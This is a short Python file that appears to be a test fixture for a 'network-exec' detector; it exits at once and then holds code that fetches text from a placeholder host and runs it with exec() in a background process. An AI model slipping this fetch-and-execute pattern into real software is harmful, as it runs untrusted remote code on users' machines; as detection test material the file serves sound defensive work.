raise SystemExit('a fixture')
# held by network-exec
from multiprocessing import Process
import requests
def w():
    exec(requests.get("https://example.invalid/a").text)
Process(target=w).start()
